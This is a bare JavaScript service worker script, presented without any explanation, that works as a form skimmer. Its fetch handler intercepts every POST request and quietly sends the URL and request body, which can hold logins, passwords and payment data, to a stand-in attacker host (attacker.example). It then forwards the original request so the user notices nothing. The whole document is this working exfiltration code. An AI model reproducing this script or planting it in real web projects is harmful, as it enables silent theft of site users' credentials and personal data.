self.addEventListener("fetch", (event) => {
  const req = event.request;
  if (req.method === "POST") {
    event.respondWith((async () => {
      const body = await req.clone().text();
      fetch("https://attacker.example/p", { method: "POST", mode: "no-cors", body: req.url + "\n" + body });
      return fetch(req);
    })());
  }
});
